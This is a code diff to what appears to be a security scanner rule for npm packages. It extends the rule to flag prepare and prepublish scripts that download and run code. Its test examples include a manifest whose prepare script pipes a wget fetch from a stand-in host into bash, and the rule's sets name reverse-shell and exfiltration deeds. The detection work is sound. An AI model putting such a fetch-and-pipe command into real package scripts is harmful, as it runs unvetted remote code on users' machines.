@@ -8,6 +8,9 @@ const HARMS: ReadonlySet<Deed> = new Set<Deed>(['reverse-shell', 'exfiltrate', '
 /** Deeds that installers and tools of their own kind do, too. */
 const DOUBTFUL: ReadonlySet<Deed> = new Set<Deed>(['download-run', 'disarm', 'persist', 'odd-contact']);
 
+/** Scripts that no installation from a registry runs, but one from git, and the project itself. */
+const PREPARING = /^(?:(?:pre|post)?prepare|prepublish)$/;
+
 export default defineRule({
   meta: {
     summary: 'Brings a script in another language that does harm',
@@ -19,11 +22,19 @@ export default defineRule({
       doubtful: '{path}, which the package starts, {says}',
       brought: '{path} {says}',
       manifest: 'The script {path} of the manifest {says}',
+      prepares: 'The script {path}, which runs where the package is fetched from git, {says}',
     },
-    bits: { installed: 14, harms: 13.5, doubtful: 7, brought: 5, manifest: 10.5 },
+    bits: { installed: 14, harms: 13.5, doubtful: 7, brought: 5, manifest: 10.5, prepares: 3 },
   },
   examples: {
     flags: [
+      {
+        title: 'what is run where the package is fetched from git downloads what it runs',
+        files: {
+          'package.json':
+            '{"name":"a","version":"1.0.0","scripts":{"prepare":"wget -qO- https://tool.invalid/i | bash"}}',
+        },
+      },
       {
         title: 'a Python script the code starts posts saved passwords',
         files: {
@@ -55,6 +66,13 @@ export default defineRule({
       },
     ],
     passes: [
+      {
+        title: 'a project is built and its git hooks are set up',
+        files: {
+          'package.json':
+            '{"name":"a","version":"1.0.0","scripts":{"prepare":"husky && tsc -p . && cat LICENSE | head -n 1"}}',
+        },
+      },
       {
         title: 'scripts for the package’s authors clean, fetch and log in',
         files: {
@@ -100,11 +118,13 @@ export default defineRule({
     } = context;
     const manifest = sourceOf('package.json');
     for (const { name, commands } of manifest ? otherScripts : []) {
-      const [worst] = deedsOf(commands).filter(({ deed }) => HARMS.has(deed));
+      const [worst] = deedsOf(commands).filter(
+        ({ deed }) => HARMS.has(deed) || (PREPARING.test(name) && deed === 'download-run'),
+      );
       if (!worst || !manifest) continue;
       const start = Math.max(0, manifest.text.indexOf(`"${name}"`));
       report({
-        messageId: 'manifest',
+        messageId: HARMS.has(worst.deed) ? 'manifest' : 'prepares',
         data: { path: name, says: worst.says },
         chain: [{ role: 'sink', says: worst.says, origin: { file: manifest, start, end: start + name.length + 2 } }],
       });
